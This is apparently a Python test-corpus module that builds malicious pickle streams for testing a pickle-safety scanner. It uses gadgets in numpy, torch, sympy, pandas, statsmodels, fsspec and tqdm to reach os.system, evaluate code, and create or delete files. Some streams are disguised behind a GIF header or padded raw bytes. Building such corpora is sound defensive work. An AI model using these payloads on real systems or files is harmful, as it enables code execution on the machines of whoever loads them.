"""Objects of classes on no list that act on what their state, or their first text, says: classes that people have
installed, made in ways that no pickler makes them. Each fired under Python 3.11 with the library that it names."""

from __future__ import annotations

import pickle

from tests.corpus.opcodes import (
    FALSE,
    NONE,
    TRUE,
    Make,
    Payload,
    Sample,
    array,
    blob,
    build,
    call,
    mapping,
    name,
    new,
    number,
    sample,
    stream,
    text,
    tup,
)

_NUMPY_ARRAY = call(
    name("numpy._core.multiarray", "_reconstruct"), name("numpy", "ndarray"), tup(number(0)), blob(b"b")
)
_SETSTATE = "https://github.com/numpy/numpy/blob/v2.4.0/numpy/_core/src/multiarray/descriptor.c"


def _dtype(code: str, *state: bytes) -> bytes:
    return build(call(name("numpy", "dtype"), text(code), FALSE, TRUE), tup(number(3), text("|"), *state))


def object_dtype(*, flags: int) -> bytes:
    """What numpy writes, but for the flags: 63 say that elements are addresses of objects."""
    return _dtype("O8", NONE, NONE, NONE, _MINUS_ONE, _MINUS_ONE, number(flags))


_MINUS_ONE = b"J\xff\xff\xff\xff"


def field_dtype(inner: bytes, offset: bytes, flags: int) -> bytes:
    fields = pickle.EMPTY_DICT + text("a") + tup(inner, offset) + pickle.SETITEM
    return _dtype("V8", NONE, tup(text("a")), fields, number(8), number(1), number(flags))


def _objects_by_class(p: Payload) -> bytes:
    state = tup(number(3), text("|"), NONE, NONE, NONE, _MINUS_ONE, _MINUS_ONE, number(0))
    return _array_of(build(call(name("numpy.dtypes", "ObjectDType")), state))


def _array_of(dtype: bytes) -> bytes:
    return stream(build(_NUMPY_ARRAY, tup(number(1), tup(number(1)), dtype, FALSE, blob(b"A" * 8))))


def _touch(p: Payload, method: str) -> bytes:
    return call(name("builtins", "getattr"), call(name("pathlib", "PosixPath"), text(p.mark)), text(method))


def _headless(p: Payload) -> bytes:
    """A pickle of protocol 0, which nothing announces, behind more than is looked at of raw numbers."""
    long = b"B" + (5_000).to_bytes(4, "little") + b"\1" * 5_000 + pickle.POP
    return long + b"(S'" + p.shell.encode() + b"'\niposix\nsystem\n."


def _data_pipe(p: Payload) -> bytes:
    """Its __setstate__ is pickle.loads of the first part."""
    wrapper = new(name("torch.utils.data.datapipes.datapipe", "_IterDataPipeSerializationWrapper"))
    return stream(build(wrapper, tup(blob(_headless(p)), FALSE)))


def _unknown_loader(p: Payload) -> bytes:
    return stream(build(new(name("acme", "Lazy")), mapping(blob=blob(_headless(p)))))


def _appended(p: Payload) -> bytes:
    """append(x) calls self._serialize_fn(self._writer, x)."""
    serializer = new(name("torch.utils._appending_byte_serializer", "AppendingByteSerializer"))
    state = mapping(_serialize_fn=_touch(p, "symlink_to"), _writer=text("/etc/hostname"))
    return stream(build(serializer, state) + TRUE + pickle.APPEND)


def _second_state(p: Payload) -> bytes:
    """The first state plants an object as __setstate__, which the second one is then passed to."""
    called = build(new(name("numpy", "vectorize")), mapping(pyfunc=name("sympy.core.containers", "Tuple")))
    return stream(
        build(build(new(name("torch.nn.modules.module", "Module")), mapping(__setstate__=called)), text(p.code))
    )


def _sympified(qualname: str, *first: bytes) -> Make:
    module, _, cls = qualname.rpartition(".")
    return lambda p: stream(new(name(module, cls), *first, text(p.code)))


def _matrix_item(p: Payload) -> bytes:
    matrix = call(name("sympy.matrices.dense", "MutableDenseMatrix"), number(1), number(1), array(number(0)))
    return stream(matrix + number(0) + text(p.code) + pickle.SETITEM)


def _polynomial(p: Payload) -> bytes:
    made = new(name("sympy.polys.polytools", "Poly"), name("sympy.abc", "x"))
    return stream(made + pickle.MARK + text(p.code) + pickle.ADDITEMS)


def _formula(p: Payload) -> bytes:
    """ModelData.__setstate__ evaluates the formula again."""
    data = call(name("pandas", "DataFrame"), mapping(y=array(number(1)), x=array(number(1))))
    state = mapping(restore_model_spec=TRUE, frame=data, formula=text(f"y ~ np.ctypeslib.os.mkdir('{p.mark}')"))
    return stream(build(new(name("statsmodels.base.data", "PandasData")), state))


def _mapped_file(p: Payload) -> bytes:
    """MMapCache.__setstate__ makes the file."""
    state = mapping(size=number(10), location=text(f"./{p.mark}"), blocks=NONE)
    return stream(build(new(name("fsspec.caching", "MMapCache")), state))


def _thrown_away(module: str) -> Make:
    """DataSource.__del__ removes the folder that it believes to have made."""
    return lambda p: stream(build(new(name(module, "DataSource")), mapping(_istmpdest=TRUE, _destpath=text(p.mark))))


def _progress_bar(p: Payload) -> bytes:
    """tqdm.__del__ closes the bar, which prints through self.sp."""
    return stream(build(new(name("tqdm.std", "tqdm")), mapping(disable=FALSE, sp=_touch(p, "write_text"))))


def _key(p: Payload) -> bytes:
    """pandas calls a key that can be called: df[f] is df[f(df)]."""
    frame = call(name("pandas", "DataFrame"), mapping(a=array(number(1))))
    return stream(frame + _touch(p, "unlink") + number(1) + pickle.SETITEM)


def _behind_a_picture(walk: bytes) -> Make:
    """GIF89a and the bytes behind it are an instruction: BINFLOAT."""
    head = b"GIF89a\1\0\1" + pickle.POP + b"\x80\4"
    return lambda p: head + walk + text(p.shell) + pickle.TUPLE1 + pickle.REDUCE + b"\xff"


_WALK = name("torch.serialization", "os.system")
_TAKEN = call(call(name("operator", "itemgetter"), number(0)), array(_WALK))


_ABS = name("sympy.functions.elementary.complexes", "Abs")


def _newobj(p: Payload) -> bytes:
    return stream(call(name("copyreg", "__newobj__"), _ABS, text(p.code)))


def _newobj_ex(p: Payload) -> bytes:
    return stream(call(name("copyreg", "__newobj_ex__"), _ABS, tup(text(p.code)), pickle.EMPTY_DICT))


RESTORED: tuple[Sample, ...] = tuple(
    sample(f"restored-{title}", make, link, runs=False)
    for title, make, link in (
        (
            "data-pipe",
            _data_pipe,
            "https://github.com/pytorch/pytorch/blob/v2.13.0/torch/utils/data/datapipes/datapipe.py",
        ),
        ("bytes-of-an-unknown-class", _unknown_loader, ""),
        ("appended-to-a-serializer", _appended, ""),
        ("second-state", _second_state, ""),
        (
            "sympy-function",
            _sympified("sympy.functions.elementary.complexes.Abs"),
            "https://docs.sympy.org/latest/modules/core.html#sympy.core.sympify.sympify",
        ),
        (
            "sympy-set",
            _sympified("sympy.sets.sets.FiniteSet"),
            "https://docs.sympy.org/latest/modules/core.html#sympy.core.sympify.sympify",
        ),
        (
            "sympy-tuple",
            _sympified("sympy.core.containers.Tuple", number(1)),
            "https://docs.sympy.org/latest/modules/core.html#sympy.core.sympify.sympify",
        ),
        ("sympy-matrix-item", _matrix_item, ""),
        ("sympy-polynomial", _polynomial, ""),
        ("sympy-by-newobj", _newobj, ""),
        ("sympy-by-newobj-ex", _newobj_ex, ""),
        ("formula", _formula, "https://github.com/statsmodels/statsmodels/blob/v0.14.4/statsmodels/base/data.py"),
        ("mapped-file", _mapped_file, ""),
        ("data-source", _thrown_away("numpy.lib._npyio_impl"), ""),
        ("data-source-elsewhere", _thrown_away("numpy.lib.io"), ""),
        ("progress-bar", _progress_bar, ""),
        ("key-of-a-frame", _key, ""),
        ("file-store", lambda p: stream(call(name("torch._C._distributed_c10d", "FileStore"), text("model"))), ""),
        ("objects-without-flag", lambda p: _array_of(object_dtype(flags=0)), _SETSTATE),
        ("objects-by-class-without-flag", _objects_by_class, _SETSTATE),
        (
            "field-of-objects-without-flag",
            lambda p: _array_of(field_dtype(object_dtype(flags=63), number(0), 0)),
            _SETSTATE,
        ),
        (
            "field-outside",
            lambda p: _array_of(field_dtype(call(name("numpy", "dtype"), text("i8")), number(200), 0)),
            _SETSTATE,
        ),
        ("walk-behind-a-picture", _behind_a_picture(_WALK), ""),
        ("taken-behind-a-picture", _behind_a_picture(_TAKEN), ""),
    )
)
